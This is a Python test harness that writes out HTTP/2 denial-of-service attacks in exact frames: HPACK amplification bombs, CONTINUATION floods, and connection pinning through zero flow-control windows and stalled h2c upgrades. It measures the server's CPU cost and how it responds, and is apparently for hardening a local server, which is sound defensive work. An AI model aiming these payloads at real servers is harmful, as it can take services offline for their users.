#!/usr/bin/env python3
"""h2probe.py: HTTP/2 as a hostile client sends it, in exact frames (Python's standard library only).

    h2probe.py PORT fields        HEADERS + 4 CONTINUATION: 65,600 one-byte references to one
                                  dynamic-table entry; prints the frame types the server answered with
    h2probe.py PORT expand N      N connections, each a 16 KB HEADERS of references to a 4 KB entry
                                  (48 MB once decoded); prints what each got back
    h2probe.py PORT amplify PID N [F]  HPACK amplification's CPU: N HEADERS frames of 16 KB (with F,
                                  blocks of F frames: HEADERS and F-1 CONTINUATIONs), each a
                                  request plus ~16,300 one-byte references to a 4 KB dynamic-table
                                  entry (65 MB once decoded), one at a time on a connection (a new
                                  one when the server ends it), then N plain 16 KB literal frames;
                                  prints the server's CPU per frame of each (all of PID's threads,
                                  /proc/PID/task/*/schedstat), and the frames each connection took
                                  before the server ended it with GOAWAY and its error code
    h2probe.py PORT pin           five connections that would each hold the server forever: two
                                  send HEADERS without END_STREAM, two announce a window of 0 and ask
                                  for the clip, one sends Upgrade: h2c and no preface; waits (at most
                                  20 s) until the server closed every one, and prints how long each took
    h2probe.py PORT stall C S     C connections with a window of 0, S GETs of the clip on each: every
                                  response stalls until the server resets it (its write timeout);
                                  prints how many streams were reset

Loopback only; every wait is bounded. Used by h2-abuse.sh.
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
NAMES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def string(text):
    data = text.encode()
    return integer(len(data), 7, 0) + data


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + string(name) + string(value)


def request(method, path):
    return literal(":method", method) + literal(":scheme", "http") + literal(":path", path) + literal(":authority", "localhost")


def connect(port, settings=b""):
    sock = socket.create_connection(("127.0.0.1", port), timeout=20)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return sock


def header_block(stream, block, end_stream=True, size=16384):
    pieces = [block[i:i + size] for i in range(0, len(block), size)]
    out = b""
    for i, piece in enumerate(pieces):
        flags = END_HEADERS if i == len(pieces) - 1 else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream, piece)
        else:
            out += frame(CONTINUATION, flags, stream, piece)
    return out


def read_frames(sock, until_stream_ends, deadline):
    """Frames until stream 1 ends (END_STREAM or RST_STREAM), the server closes, or the deadline."""
    buffer, frames = b"", []
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except (socket.timeout, ConnectionResetError):
            break
        if not chunk:
            break
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags, stream = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            frames.append((kind, flags, stream))
            buffer = buffer[9 + length:]
        if any(s == until_stream_ends and (k == RST_STREAM or (k in (HEADERS, DATA) and f & END_STREAM)) for k, f, s in frames):
            break
    return " ".join(NAMES.get(k, str(k)) + ("(1)" if s == 1 else "") for k, f, s in frames)


def fields(port):
    sock = connect(port)
    block = request("GET", "/api/emoji") + literal("a", "b", indexed=True) + b"\xbe" * 65_600
    sock.sendall(header_block(1, block))
    print(read_frames(sock, 1, time.monotonic() + 10))


def expand(port, count):
    socks = [connect(port) for _ in range(count)]
    block = request("GET", "/api/emoji") + literal("x-big", "v" * 4000, indexed=True)
    block += b"\xbe" * (16384 - len(block))
    for sock in socks:
        sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
    for sock in socks:
        print(read_frames(sock, 1, time.monotonic() + 10))


def cpu_ns(pid):
    """CPU time of every thread of `pid` so far, in nanoseconds (schedstat's first field)."""
    import glob
    total = 0
    for path in glob.glob("/proc/%d/task/*/schedstat" % pid):
        try:
            with open(path) as f:
                total += int(f.read().split()[0])
        except (OSError, ValueError, IndexError):
            pass  # a thread that ended meanwhile
    return total


def answer_or_goaway(sock, stream, deadline):
    """Reads until `stream` ends (END_STREAM or RST_STREAM: returns its frame's name) or a GOAWAY
    arrives (returns "GOAWAY(code)") or the server closes ("closed")."""
    buffer = b""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            break
        except ConnectionResetError:
            return "closed"
        if not chunk:
            return "closed"
        buffer += chunk
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            kind, flags, sid = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            payload = buffer[9:9 + length]
            buffer = buffer[9 + length:]
            if kind == GOAWAY:
                return "GOAWAY(%d)" % int.from_bytes(payload[4:8], "big")
            if sid == stream and (kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM)):
                return NAMES[kind]
    return "timeout"


def amplify(port, pid, count, frames_per_block=1):
    entry = literal("x-big", "v" * 4000, indexed=True)

    def amplified(stream, first):
        # The entry is added once per connection (its first block); later blocks only refer to it.
        block = request("GET", "/api/emoji") + (entry if first else b"")
        return header_block(stream, block + b"\xbe" * (16384 * frames_per_block - len(block)))

    def plain(stream, first):
        block = request("GET", "/api/emoji")
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block + literal("x-pad", "p" * (16384 - len(block) - 12)))

    results = {}
    for name, make in (("amplified", amplified), ("literal", plain)):
        sent, connections, outcomes = 0, [], []
        started = cpu_ns(pid)
        while sent < count:
            sock, stream, taken = connect(port), 1, 0
            while sent < count:
                sock.sendall(make(stream, taken == 0))
                sent += 1
                taken += 1
                outcome = answer_or_goaway(sock, stream, time.monotonic() + 10)
                if outcome.startswith("GOAWAY") or outcome in ("closed", "timeout"):
                    connections.append("%d frames, then %s" % (taken, outcome))
                    break
                outcomes.append(outcome)
                stream += 2
            sock.close()
        spent = cpu_ns(pid) - started
        results[name] = spent / count / 1e6
        print("%s: %d frames, %.3f ms CPU each; answers: %s; connections ended: %s" % (
            name, count, results[name], " ".join(sorted(set(outcomes))) or "-", "; ".join(sorted(set(connections))) or "none"))
    print("ratio: %.1f" % (results["amplified"] / results["literal"]))


def pin(port):
    started = time.monotonic()
    socks = [connect(port), connect(port)]
    for sock in socks:
        sock.sendall(frame(HEADERS, END_HEADERS, 1, request("POST", "/api/emoji")))
    for _ in range(2):
        sock = connect(port, struct.pack(">HI", 0x4, 0))  # SETTINGS_INITIAL_WINDOW_SIZE = 0
        sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request("GET", "/api/clip")))
        socks.append(sock)
    sock = socket.create_connection(("127.0.0.1", port), timeout=20)
    sock.sendall(b"GET /api/emoji HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                 b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")
    socks.append(sock)
    deadline = started + 20
    closed = []
    for sock in socks:
        while True:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                if not sock.recv(65536):
                    closed.append("%.1f" % (time.monotonic() - started))
                    break
            except ConnectionResetError:
                closed.append("%.1f" % (time.monotonic() - started))
                break
            except socket.timeout:
                closed.append("open")
                break
    print("closed after " + " ".join(closed))


def stall(port, connections, streams):
    """`connections` connections at window 0, each with `streams` GETs of the clip whose responses
    cannot move; returns once the server has closed or reset every stream (its write timeout)."""
    socks = [connect(port, struct.pack(">HI", 0x4, 0)) for _ in range(connections)]
    for sock in socks:
        sock.sendall(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, request("GET", "/api/clip")) for i in range(streams)))
    ended = 0
    for sock in socks:
        buffer, done = b"", set()
        deadline = time.monotonic() + 30
        while len(done) < streams and time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, ConnectionResetError):
                break
            if not chunk:
                break
            buffer += chunk
            while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                length = int.from_bytes(buffer[:3], "big")
                if buffer[3] == RST_STREAM:
                    done.add(int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF)
                buffer = buffer[9 + length:]
        ended += len(done)
        sock.close()
    print("streams reset: %d of %d" % (ended, connections * streams))


if __name__ == "__main__":
    port, mode = int(sys.argv[1]), sys.argv[2]
    if mode == "fields":
        fields(port)
    elif mode == "expand":
        expand(port, int(sys.argv[3]))
    elif mode == "amplify":
        amplify(port, int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]) if len(sys.argv) > 5 else 1)
    elif mode == "stall":
        stall(port, int(sys.argv[3]), int(sys.argv[4]))
    else:
        pin(port)
